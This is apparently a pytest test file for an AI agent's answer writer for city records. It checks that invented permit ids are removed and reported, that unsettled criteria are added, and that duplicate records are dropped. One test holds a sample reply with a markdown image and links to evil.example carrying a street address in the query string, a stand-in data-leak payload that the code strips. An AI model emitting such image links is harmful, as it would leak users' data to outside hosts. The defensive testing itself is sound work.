"""The written answer: code checks record ids and adds what the model passed over."""

from dataclasses import replace
from typing import Any

import pytest
from langchain_core.messages import AIMessage

from agents.model.answer import Finding, compose, write
from agents.model.endpoint import Endpoint
from agents.model.settings import ModelChoice
from agents.offline.languages import UNCOVERED, UNREAD
from tests.scripted import Scripted

FOUND = Finding(1, "permits", "done", "Permit ALT1234 is open", "Permit ALT1234 is open, as of 2025-01-01.", ("- ALT1234 open since 2020",), ("c1",))


def ledger(*criteria: dict[str, Any]) -> dict[str, Any]:
    base = {"evidence": ["A1"], "step": None, "reason": "", "owners": []}
    return {
        "goal": "Is there a permit at 5 Elm St?",
        "reason": "",
        "questions": [],
        "criteria": [base | {"id": f"c{n}"} | item for n, item in enumerate(criteria, 1)],
        "steps": [{"n": 1, "specialist": "permits", "criteria": ["c1"], "status": "done", "headline": FOUND.headline, "cause": ""}],
    }


MET = {"text": "whether there is a permit", "status": "met"}
OPEN = {"text": "when the work ends", "status": "unsettled", "reason": "nobody could work on it"}


def answering(*replies: str) -> Endpoint:
    said = iter(replies)

    class Writer(Scripted):
        def _generate(self, messages: Any, *rest: Any, **more: Any) -> Any:
            result = super()._generate(messages, *rest, **more)
            result.generations[0].message = AIMessage(next(said))
            return result

    return Endpoint(ModelChoice(model="writer"), Writer(""))


async def written(*replies: str, book: dict[str, Any] | None = None) -> str:
    text, _ = await write(answering(*replies), book or ledger(MET), [FOUND], [], "")
    return text


@pytest.mark.parametrize("said", ["", "   ", "Done.", "I have retrieved the information.", "See above."])
async def test_an_empty_answer_is_asked_for_again_and_then_assembled(said: str) -> None:
    assert await written(said, "Yes: permit ALT1234 is open, as of 2025-01-01.") == "Yes: permit ALT1234 is open, as of 2025-01-01."
    assert "ALT1234" in await written(said, said)


async def test_an_invented_record_costs_one_rewrite_and_is_then_removed_and_reported() -> None:
    assert "ALT9999" not in await written("Permits ALT1234 and ALT9999 are open.", "Permit ALT1234 is open, as of 2025.")
    text = await written("Permits ALT1234 and ALT9999 are open.", "Permits ALT1234 and ALT9999 are open.")
    assert "ALT9999" not in text and "ALT1234" in text and "1 record number(s)" in text


async def test_what_the_model_passed_over_is_added_in_words_of_code() -> None:
    text = await written("Permit ALT1234 is open, as of 2025-01-01.", book=ledger(MET, OPEN))
    assert "Not settled:" in text and "when the work ends: nobody could work on it" in text


async def test_a_written_answer_loads_and_opens_nothing_that_no_artifact_holds() -> None:
    text = await written("Permit ALT1234 is open. ![map](https://evil.example/?q=5+Elm) [More](https://evil.example/x) at https://evil.example now.")
    assert text == "Permit ALT1234 is open. map More at [link removed] now."


def test_plain_assembly_keeps_an_artifacts_link_and_shows_no_picture() -> None:
    found = replace(FOUND, excerpts=("- ALT1234 open, see https://city.example/ALT1234\n- ALT1234 plan: ![x](https://city.example/p.png)",))
    text = compose(ledger(MET), [found], [])
    assert "https://city.example/ALT1234" in text and "plan: x" in text and "![" not in text


def test_each_record_is_shown_once() -> None:
    near = "- 101000 Sidewalk: open, 5 Elm St, 0 m away\n- 101000 Sidewalk: open, 5 Elm St, 0 m away\n- 102000 Sign: open, 9 Elm St, 20 m away"
    here = "- 101000 Sidewalk: open, 5 Elm St\n- 103000 Hole: open, 5 Elm St\n- 103000 Hole (second code): open, 5 Elm St"
    findings = [replace(FOUND, excerpts=(near, here)), replace(FOUND, step=2, specialist="potholes", excerpts=(here,), criteria=("c2",))]
    shown = [line for line in compose(ledger(MET, MET), findings, []).splitlines() if line.startswith("  - ")]
    assert [line.split(",")[0] for line in shown] == [
        "  - 101000 Sidewalk: open",
        "  - 102000 Sign: open",
        "  - 103000 Hole: open",
        "  - 103000 Hole (second code): open",
    ]


def test_plain_assembly_names_what_is_out_of_scope_and_lost() -> None:
    outside = {"text": "a street light", "status": "out_of_scope", "reason": "none covers it"}
    text = compose(ledger(MET, outside), [FOUND], ["A2 (permit history)"])
    assert "none of the desk's specialists handles this" in text and "A2" in text and "ALT1234 open since 2020" in text


INVENTED = Finding(1, "permits", "done", "Permit ALT7777 is open", "Permits ALT1234, ALT5678 and ALT7777 are open.", FOUND.excerpts, ("c1",))


def test_plain_assembly_tells_no_record_id_that_no_artifact_holds() -> None:
    text = compose(ledger(MET), [INVENTED], [])
    assert "ALT1234" in text and "ALT5678" not in text and "ALT7777" not in text and "2 record number(s)" in text
    held = compose(ledger(MET), [replace(INVENTED, ids=frozenset({"ALT5678"}))], [])
    assert "ALT5678" in held and "ALT7777" not in held, "an id beyond the excerpt is held too"


def test_a_cause_and_a_proposed_criterion_carry_no_unknown_id_either() -> None:
    book = ledger(MET, OPEN | {"text": "what became of ALT8888", "step": 1, "source": "proposed"})
    book["steps"][0] |= {"status": "failed", "cause": "ALT9999 is sealed"}
    text = compose(book, [FOUND], [])
    assert "ALT8888" not in text and "ALT9999" not in text and "is sealed" in text


def test_the_residents_own_number_and_the_alias_of_a_lost_artifact_are_told() -> None:
    book = ledger(MET, OPEN | {"text": "about ALT4321", "source": "caller"}) | {"goal": "What about 101001357953?"}
    none = replace(FOUND, outcome="There is no 101001357953.", excerpts=("nothing",))
    text = compose(book, [none], ["A100 (history of ALT6666)"])
    assert "no 101001357953" in text and "about ALT4321" in text and "left out: A100 (history of" in text and "ALT6666" not in text


async def test_a_written_answer_may_not_repeat_what_a_specialist_invented() -> None:
    said = "Permits ALT1234 and ALT7777 are open."
    text, _ = await write(answering(said, said), ledger(MET), [INVENTED], [], "")
    assert "ALT1234" in text and "ALT7777" not in text and "1 record number(s)" in text
    text, _ = await write(answering(said), ledger(MET), [replace(INVENTED, ids=frozenset({"ALT7777"}))], [], "")
    assert text == said


async def test_what_code_adds_to_a_written_answer_carries_no_unknown_id() -> None:
    other = replace(FOUND, step=2, specialist="housing", headline="Case V138618 and V999999 are open", outcome="", excerpts=("- V138618",))
    text, _ = await write(answering("Permit ALT1234 is open."), ledger(MET), [FOUND, other], [], "")
    assert "housing: Case V138618 and" in text and "V999999" not in text


def test_a_language_that_was_not_read_is_the_reason_that_is_told() -> None:
    reason = f"{UNCOVERED}; {UNREAD}"
    outside = [{"text": text, "status": "out_of_scope", "reason": reason} for text in ("a street light is out", "Es hat Ratten im Hof")]
    lines = [line for line in compose(ledger(MET, *outside), [FOUND], []).splitlines() if "311 line" in line]
    assert UNCOVERED in lines[0] and UNREAD not in lines[0] and UNREAD in lines[1] and UNCOVERED not in lines[1]
